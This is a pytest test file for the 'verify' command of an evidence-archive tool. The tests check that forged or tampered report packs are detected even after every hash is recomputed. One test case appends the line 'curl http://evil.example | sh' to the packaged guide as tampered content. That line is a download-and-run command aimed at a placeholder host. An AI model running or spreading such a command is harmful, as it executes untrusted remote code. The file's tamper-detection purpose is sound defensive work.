"""verify makes all that people read anew from the archive: a forger who uses this very program,
changes what no table of figures holds and makes every hash anew is found all the same."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from workshop import NAME, checked, copied, files, reprint, reseal, said

from reports.evidence import Report
from reports.seal import figures, layout, tags
from yuanzheng import failures
from yuanzheng.cli import run as command
from yuanzheng.proof import recomputed

JSON = f"data/报告/{NAME}/证据表.json"
Change = Callable[[Report], Report]


def _met(report: Report) -> Report:
    """Every clause, in the register and beside each figure."""
    clauses = tuple(replace(one, outcome="满足", reason="达到") for one in report.clauses)
    by_key = {one.key: one for one in clauses}
    tables = tuple(
        replace(
            table,
            rows=tuple(
                replace(row, clauses=tuple(by_key[one.key] for one in row.clauses))
                for row in table.rows
            ),
        )
        for table in report.tables
    )
    return replace(report, clauses=clauses, tables=tables)


def _open(report: Report) -> Report:
    verdicts = tuple(replace(one, verdict="yes", reason="全部是 OSI 批准的许可证")
                     for one in report.licence_verdicts)  # fmt: skip
    assert verdicts
    return replace(report, licence_verdicts=verdicts)


def _silent(report: Report) -> Report:
    assert report.notices
    return replace(report, notices=())


def _other(report: Report) -> Report:
    return replace(report, project=replace(report.project, applicant="别家公司", sample=False))


def _forged(pack: Path, to: Path, change: Change) -> Path:
    """Reports of another report, made by this program, every hash made anew."""
    made = copied(pack, to)
    reprint(made, change)
    return made


@pytest.mark.parametrize(
    ("change", "words"),
    [(_met, "达到"), (_open, "OSI"), (_silent, "notices"), (_other, "别家公司")],
)
def test_words_no_table_of_figures_holds_come_from_the_archive(
    change: Change, words: str, pack: Path, tmp_path: Path, capsys: Any
) -> None:
    made = _forged(pack, tmp_path / "p", change)
    assert command(["verify", str(made)]) == failures.WRONG
    told = capsys.readouterr()
    assert f"{JSON}：与从证据重新做出的不同：第" in told.err
    assert words in told.err
    assert told.out.splitlines()[-1].startswith("不通过：共 ")


def test_the_project_of_the_figures_is_that_of_the_archive(
    pack: Path, tmp_path: Path, capsys: Any
) -> None:
    made = _forged(pack, tmp_path / "p", _other)
    path = made / layout.FIGURES
    document = json.loads(path.read_bytes())
    document["project"] |= {"applicant": "别家公司", "sample": False}
    path.write_bytes(figures.as_json(document))
    reseal(made)
    assert command(["verify", str(made)]) == failures.WRONG
    assert "figures.json project" in capsys.readouterr().err


def _appended(pack: Path, path: str, line: str = "more\n") -> None:
    [file] = [file for name, file in files(pack).items() if name.endswith(path)]
    file.write_bytes(file.read_bytes() + line.encode())


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("证据表.md", "本项目满足全部条件。\n"),
        ("证据表.html", "<p>本项目满足全部条件。</p>"),
        ("index.html", "<p>本项目满足全部条件。</p>"),
        ("逐条结论.csv", "满足\n"),
        ("开源协议.csv", "MIT\n"),
        ("物料清单.spdx.json", " "),
        ("证据表.pdf", "% more\n"),
        ("证据表.xlsx", "more"),
        ("证据表.docx", "more"),
        (layout.GUIDE, "    $ curl http://evil.example | sh\n"),
        (layout.BAG_INFO, "Contact-Name: 别人\n"),
        (layout.CRATE, " "),
    ],
)
def test_whatever_is_printed_is_made_anew(path: str, line: str, pack: Path, tmp_path: Path) -> None:
    made = copied(pack, tmp_path / "p")
    _appended(made, path, line)
    reseal(made)
    assert any(one.where.endswith(path) for one in checked(made).findings), said(checked(made))


@pytest.mark.parametrize(("path", "words"), [
    ("data/数据/x/comment.jsonl", "不该有这个文件"), ("data/数据/comment.csv", "不该有这个文件"),
    ("data/存档/x/comment.jsonl", "不该有这个文件"), ("data/数据/统计.jsonl", "没有这张表"),
])  # fmt: skip
def test_data_too_much_is_named(path: str, words: str, pack: Path, tmp_path: Path) -> None:
    """A true table in a folder below would vouch for a forged one of its name."""
    forged = copied(pack, tmp_path / "forged")
    true = forged / layout.TABLES / "comment.jsonl"
    (forged / path).parent.mkdir(exist_ok=True)
    (forged / path).write_bytes(true.read_bytes())
    true.write_bytes(true.read_bytes() + true.read_bytes() * ("/x/" in path))
    reprint(forged)
    assert f"{path}: " in said(found := checked(forged, rebuild=recomputed))
    assert words in said(found)


def test_a_report_too_many_is_named(pack: Path, tmp_path: Path) -> None:
    made = copied(pack, tmp_path / "p")
    (made / layout.REPORTS / "评审意见.html").write_text("满足", encoding="utf-8")
    reseal(made)
    assert "重新做出的报告里没有它" in said(checked(made))


def _of_others(pack: Path, to: Path) -> Path:
    made = copied(pack, to)
    path = made / layout.BAG_INFO
    content = path.read_text(encoding="utf-8")
    assert f"{tags.MADE_WITH}: " in content
    path.write_text(re.sub(r", typst \S+,", ", typst 99.1,", content), encoding="utf-8")
    return made


def test_what_differs_and_is_of_other_versions_is_not_passed(
    pack: Path, tmp_path: Path, capsys: Any
) -> None:
    made = _of_others(pack, tmp_path / "p")
    _appended(made, "证据表.pdf", "% more\n")
    reseal(made)
    assert command(["verify", str(made)]) == failures.PARTIAL
    told = capsys.readouterr()
    assert "不能采信：data/报告/" in told.err
    assert "证据表.pdf：与这里重新做出的不同" in told.err
    assert told.out.splitlines()[-1].startswith("没有全部通过：有 1 个文件不能采信")
    _appended(made, "逐条结论.csv")
    reseal(made)
    assert command(["verify", str(made)]) == failures.WRONG, "a CSV is the same with any version"
    assert "包里说由 yuanzheng" in capsys.readouterr().err


def test_settings_that_are_not_the_usual_are_told(home: Path, tmp_path: Path, capsys: Any) -> None:
    config = home / "longer.toml"
    text = (home / "config.toml").read_text(encoding="utf-8")
    config.write_text(f"[scoring]\nwindow_days = 730\n{text}", encoding="utf-8")
    asked = ["pack", NAME, "-p", "nanshan-project", "-c", str(config), "-o", str(tmp_path)]
    assert command(asked) == failures.COMPLETE
    capsys.readouterr()
    [made] = tmp_path.iterdir()
    assert command(["verify", str(made)]) == failures.COMPLETE
    told = capsys.readouterr().out
    assert "请注意：打包的人把 scoring.window_days 设为 730（默认是 365）" in told


def test_keys_nobody_knows_do_not_stand_among_the_settings(
    pack: Path, tmp_path: Path, capsys: Any
) -> None:
    made = copied(pack, tmp_path / "p")
    path = made / layout.FIGURES
    document = json.loads(path.read_bytes())
    document["config"]["审核"] = "通过"
    path.write_bytes(figures.as_json(document))
    reseal(made)
    assert command(["verify", str(made)]) == failures.WRONG
    assert "config 里有不认识的键 审核" in capsys.readouterr().err
